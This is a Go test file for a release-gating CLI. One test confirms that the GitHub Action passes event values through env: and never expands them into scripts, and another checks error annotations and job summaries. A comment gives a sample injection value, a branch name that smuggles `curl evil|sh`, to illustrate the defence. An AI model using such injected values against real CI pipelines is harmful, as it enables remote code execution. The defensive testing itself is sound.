package cli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// TestActionNoScriptInjection: no value of the event or of the inputs is
// expanded into a script of action.yml; each reaches it through env:, so a
// branch name such as `a";curl evil|sh;"` stays text. Each command runs once.
func TestActionNoScriptInjection(t *testing.T) {
	b, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var action struct {
		Runs struct {
			Steps []struct {
				Name string `yaml:"name"`
				Run  string `yaml:"run"`
			} `yaml:"steps"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal(b, &action); err != nil {
		t.Fatal(err)
	}
	runs := map[string]int{}
	for _, s := range action.Runs.Steps {
		if strings.Contains(s.Run, "${{") {
			t.Errorf("step %q expands an expression inside its script; pass it through env:\n%s", s.Name, s.Run)
		}
		for _, cmd := range []string{"relgate validate", "relgate gate"} {
			runs[cmd] += strings.Count(s.Run, cmd+" ")
		}
	}
	if runs["relgate validate"] != 1 || runs["relgate gate"] != 1 {
		t.Errorf("validate runs %d times and gate %d times; want each once", runs["relgate validate"], runs["relgate gate"])
	}
}

// TestValidateGitHubSummary: a file with many problems gets ten error
// annotations, a notice, the whole text in the log and every finding in the
// job summary, from one run that exits 1.
func TestValidateGitHubSummary(t *testing.T) {
	dir := t.TempDir()
	if err := os.CopyFS(dir, os.DirFS(examples)); err != nil {
		t.Fatal(err)
	}
	plan := filepath.Join(dir, "releases", "REL-2026-0043", "plan.yaml")
	b, err := os.ReadFile(plan)
	if err != nil {
		t.Fatal(err)
	}
	// Empty every text value of the plan: one problem per field.
	var lines []string
	for _, l := range strings.Split(string(b), "\n") {
		if k, v, ok := strings.Cut(l, ": "); ok && !strings.HasPrefix(strings.TrimSpace(l), "#") && !strings.Contains(k, "apiVersion") && !strings.Contains(k, "kind") &&
			!strings.Contains(k, "release") && v != "" && v != "|" && !strings.HasPrefix(v, "[") {
			l = k + ": \"\""
		}
		lines = append(lines, l)
	}
	if err := os.WriteFile(plan, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
		t.Fatal(err)
	}
	summary := filepath.Join(t.TempDir(), "summary.md")
	code, out, errs := run(t, "validate", "--format", "github", "--summary", summary, dir)
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s%s", code, out, errs)
	}
	md, err := os.ReadFile(summary)
	if err != nil {
		t.Fatal(err)
	}
	total := strings.Count(out, ": error: ")
	if total <= 10 {
		t.Fatalf("the broken plan has %d errors; the test needs more than ten\n%s", total, out)
	}
	if got := strings.Count(out, "::error "); got != 10 {
		t.Errorf("%d error annotations, want 10", got)
	}
	if !strings.Contains(out, "::notice title=relgate::") {
		t.Errorf("no notice of the problems beyond the annotations:\n%s", out)
	}
	if got := strings.Count(string(md), "| error |"); got != total {
		t.Errorf("the job summary lists %d errors, the log %d", got, total)
	}
}
